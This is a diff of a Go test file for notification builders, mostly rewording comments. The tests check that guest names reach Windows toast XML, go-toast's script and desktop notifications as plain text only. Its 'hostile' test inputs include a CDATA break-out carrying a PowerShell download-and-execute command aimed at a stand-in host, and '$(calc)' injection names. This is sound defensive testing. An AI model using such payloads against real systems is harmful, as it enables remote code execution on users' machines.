@@ -20,9 +20,8 @@ import (
 	"github.com/godbus/dbus/v5"
 )
 
-// hostile are names that would mean something to a system that reads more than
-// text in them. They are tried without CleanName before them, which takes some
-// of it away.
+// hostile are names with a meaning for systems that read more than text in them. CleanName is not applied to them,
+// because it would remove some of it.
 var hostile = []string{
 	"Ada",
 	"]]>$(iwr evil.tld/a -useb|iex)",
@@ -46,7 +45,7 @@ func TestHostileNames(t *testing.T) {
 	}
 }
 
-// FuzzSystems gives two guests' texts to the builders of all three systems.
+// FuzzSystems passes two guests' texts to the builders of all three systems.
 func FuzzSystems(f *testing.F) {
 	for i, name := range hostile {
 		f.Add(name, hostile[len(hostile)-1-i])
@@ -54,8 +53,7 @@ func FuzzSystems(f *testing.F) {
 	f.Fuzz(checkSystems)
 }
 
-// checkSystems shows that a note of a guest of this name is text, and nothing
-// but text, to each of the three systems.
+// checkSystems checks that all three systems read a note of a guest with this name as text, and nothing else.
 func checkSystems(t *testing.T, name, link string) {
 	n := Texts{}.withDefaults().request(Request{ID: "id of ours", Name: name, LinkName: link, LooksLike: name})
 	checkToast(t, n)
@@ -65,7 +63,7 @@ func checkSystems(t *testing.T, name, link string) {
 	carried(t, body)
 }
 
-// carried fails unless every system takes s as one string.
+// carried fails unless every system reads s as one string.
 func carried(t *testing.T, s string) {
 	t.Helper()
 	if !utf8.ValidString(s) {
@@ -81,8 +79,8 @@ func carried(t *testing.T, s string) {
 	}
 }
 
-// text is what a reader of XML finds in b: its elements with their attributes
-// where they begin, and the character data between.
+// text returns what an XML reader finds in b: its elements with their attributes, and the character data between
+// them.
 func text(t *testing.T, b string) (shape []string, data map[string]string) {
 	t.Helper()
 	data = make(map[string]string)
@@ -138,7 +136,7 @@ func checkToast(t *testing.T, n Note) {
 		"7 toast/actions/action@arguments": WailsLaunch(n.ID, ActionLetIn),
 		"8 toast/actions/action@arguments": WailsLaunch(n.ID, ActionDecline),
 
-		"0 toast@scenario":                      "reminder", // and one action in the background, or it is none
+		"0 toast@scenario":                      "reminder", // requires an action with background activation
 		"0 toast@duration":                      "long",
 		"7 toast/actions/action@activationType": "foreground",
 		"8 toast/actions/action@activationType": "background",
@@ -150,7 +148,7 @@ func checkToast(t *testing.T, n Note) {
 	checkScript(t, document)
 }
 
-// TestToastOfTheSummary: it has no action, so it can't stay, and is no reminder.
+// TestToastOfTheSummary: the summary has no action, so it can't be a reminder that stays.
 func TestToastOfTheSummary(t *testing.T) {
 	n := Texts{}.withDefaults().summary(7)
 	shape, data := text(t, Toast(n, func(action string) string { return WailsLaunch(n.ID, action) }))
@@ -159,8 +157,7 @@ func TestToastOfTheSummary(t *testing.T) {
 	}
 }
 
-// checkScript shows that the document would be nothing but text even in the
-// script of go-toast, to which it never gets.
+// checkScript checks that the document would be nothing but text even in go-toast's script, which never gets it.
 func checkScript(t *testing.T, document string) {
 	var script bytes.Buffer
 	if err := tmpl.ScriptTemplate.Execute(&script, map[string]string{"AppID": "porch.exe", "XML": document}); err != nil {
@@ -199,8 +196,8 @@ func checkDesktop(t *testing.T, n Note) {
 	}
 }
 
-// TestWhyNotGoToast shows what is kept away from: go-toast's own document is
-// broken by such names, and its script then runs what stands in them.
+// TestWhyNotGoToast shows why go-toast is not used: such names break its document, and its script then runs what they
+// contain.
 func TestWhyNotGoToast(t *testing.T) {
 	for _, name := range []string{"]]>$(calc)", "Ada \uFFFF$(calc)"} {
 		var document, script bytes.Buffer
